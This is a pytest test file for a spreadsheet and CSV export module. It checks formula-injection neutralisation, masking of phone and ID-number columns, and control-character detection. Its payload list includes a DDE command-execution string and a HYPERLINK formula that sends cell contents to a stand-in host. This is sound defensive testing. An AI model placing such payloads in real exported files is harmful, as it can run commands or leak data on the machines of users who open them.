from __future__ import annotations

from datetime import date, datetime

import pytest

from officedesk.domain.visit_columns import COLUMNS_BY_KEY
from officedesk.exchange.cells import csv_cell, format_date, format_datetime, masked_value, plain_text, text_cell

# RELIABILITY.md F1's payloads.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?q="&A1,"点击")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1",
    "＠SUM(1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_triggers_are_neutralised(payload: str) -> None:
    assert text_cell(payload) == "'" + payload
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", ["张三", "1+1=2", "城关镇 = 老街", "", "'已有引号"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert text_cell(text) == text


def test_numbers_and_dates_are_not_quoted() -> None:
    assert csv_cell(-5) == "-5"
    assert csv_cell(date(2026, 1, 5)) == "2026-01-05"
    assert csv_cell(datetime(2026, 1, 5, 9, 7, 59)) == "2026-01-05 09:07"
    assert csv_cell(None) == ""


def test_date_spelling() -> None:
    assert format_date(date(2026, 12, 31)) == "2026-12-31"
    assert format_datetime(datetime(2026, 12, 31, 8, 5)) == "2026-12-31 08:05"
    assert plain_text(datetime(2026, 12, 31, 8, 5)) == "2026-12-31 08:05"  # a datetime is not spelled as a date


def test_personal_columns_are_masked_by_default() -> None:
    phone, id_number, name = COLUMNS_BY_KEY["phone"], COLUMNS_BY_KEY["id_number"], COLUMNS_BY_KEY["petitioner"]
    assert masked_value(phone, "13812345678", True) == "138****5678"
    assert masked_value(id_number, "110101199003071234", True) == "110101********1234"
    assert masked_value(phone, "13812345678", False) == "13812345678"
    assert masked_value(name, "张三", True) == "张三"  # not a personal column
    assert masked_value(phone, "", True) == ""


def test_hidden_characters_are_found_by_one_pattern() -> None:
    from officedesk.exchange.cell_values import _HIDDEN, _HIDDEN_CHARS, cell_text, texts_pass

    assert {c for c in range(0x110000) if _HIDDEN_CHARS.search(chr(c))} == _HIDDEN
    for code in sorted(_HIDDEN):
        with pytest.raises(ValueError, match="控制字符"):
            cell_text(f"甲{chr(code)}乙")
        assert not texts_pass(["甲", f"乙{chr(code)}丙"])
    assert texts_pass(["甲\n乙", "\t丙", ""]) and texts_pass([])
    assert not texts_pass(["a" * 5001])
    assert cell_text("\x1f 甲 \x1f") == "甲"  # separators stripped off the ends, as str.strip does
